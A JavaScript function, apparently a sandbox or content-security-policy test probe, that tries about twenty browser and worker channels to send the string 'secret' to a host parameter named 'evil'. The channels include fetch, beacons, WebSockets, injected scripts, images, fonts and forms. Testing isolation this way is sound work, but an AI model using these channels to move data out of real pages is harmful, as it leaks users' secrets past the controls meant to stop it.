// Every way known to get a text out of a page or a worker; each says "sent" or why not.
async function attempts(evil) {
  const results = {};
  const attempt = async (name, run) => {
    try {
      results[name] = await Promise.race([run(`${evil}/${name}?secret`), new Promise((resolve) => setTimeout(resolve, 1500, "no answer"))]);
    } catch (error) {
      results[name] = `refused: ${error}`;
    }
  };
  const settled = (target, good) => new Promise((resolve, reject) => {
    target[good] = () => resolve("sent");
    target.onerror = () => reject(new Error("error event"));
  });
  await attempt("fetch", (url) => fetch(url, { mode: "no-cors" }).then(() => "sent"));
  await attempt("post", (url) => fetch(url, { method: "POST", mode: "no-cors", body: "secret" }).then(() => "sent"));
  await attempt("xhr", (url) => {
    const request = new XMLHttpRequest();
    request.open("POST", url);
    const done = settled(request, "onload");
    request.send("secret");
    return done;
  });
  await attempt("socket", (url) => settled(new WebSocket(url.replace("http", "ws")), "onopen"));
  await attempt("events", (url) => settled(new EventSource(url), "onopen"));
  await attempt("import", (url) => import(url).then(() => "sent"));
  await attempt("wasm", () => WebAssembly.instantiate(new Uint8Array([0, 0x61, 0x73, 0x6d, 1, 0, 0, 0])).then(() => "ok"));
  await attempt("worker", (url) => {
    const code = `fetch(${JSON.stringify(url)}, { mode: "no-cors" }).then(() => postMessage("sent"), () => postMessage("refused"))`;
    const worker = new Worker(URL.createObjectURL(new Blob([code], { type: "text/javascript" })));
    return new Promise((resolve) => { worker.onmessage = ({ data }) => resolve(data); });
  });
  if (typeof document === "undefined") return results;
  const add = (name, attributes) => {
    const element = Object.assign(document.createElement(name), attributes);
    document.body.append(element);
    return element;
  };
  await attempt("beacon", (url) => (navigator.sendBeacon(url, "secret") ? "queued" : "refused"));
  await attempt("image", (url) => settled(add("img", { src: url }), "onload"));
  await attempt("style", (url) => settled(add("link", { rel: "stylesheet", href: url }), "onload"));
  await attempt("prefetch", (url) => settled(add("link", { rel: "prefetch", href: url }), "onload"));
  await attempt("font", (url) => new FontFace("leak", `url(${url})`).load().then(() => "sent"));
  await attempt("media", (url) => settled(add("video", { src: url }), "onloadeddata"));
  await attempt("script", (url) => settled(add("script", { src: url }), "onload"));
  await attempt("frame", (url) => { add("iframe", { src: url }); return "tried"; });
  await attempt("form", (url) => {
    add("iframe", { name: "leak" });
    add("form", { action: url, method: "post", target: "leak" }).submit();
    return "tried";
  });
  return results;
}
